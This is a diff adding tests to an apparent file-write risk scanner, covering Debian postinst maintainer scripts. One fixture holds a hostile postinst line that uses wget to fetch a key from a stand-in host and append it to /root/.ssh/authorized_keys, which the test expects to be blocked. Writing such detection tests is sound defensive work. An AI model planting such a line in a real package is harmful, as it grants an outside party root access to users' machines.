@@ -122,3 +122,23 @@ describe("protections a host file takes away", () => {
     expect(write(path, text)).toBeLessThan(0.5);
   });
 });
+
+// A package's maintainer scripts (debian/*.postinst, DEBIAN/preinst …) run as root on every install: read as scripts.
+describe("maintainer scripts", () => {
+  test("a postinst that plants a downloaded key blocks", () => {
+    expect(
+      write(
+        "debian/tool.postinst",
+        '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n  wget -qO- https://keys.example.net/k >> /root/.ssh/authorized_keys\nfi\n#DEBHELPER#',
+      ),
+    ).toBeGreaterThanOrEqual(0.8);
+  });
+  test("a postinst that adds its system user stays clean", () => {
+    expect(
+      write(
+        "debian/tool.postinst",
+        '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n  adduser --system --group --home /var/lib/tool tool\n  chown tool:tool /var/lib/tool\nfi\n#DEBHELPER#',
+      ),
+    ).toBeLessThan(0.5);
+  });
+});
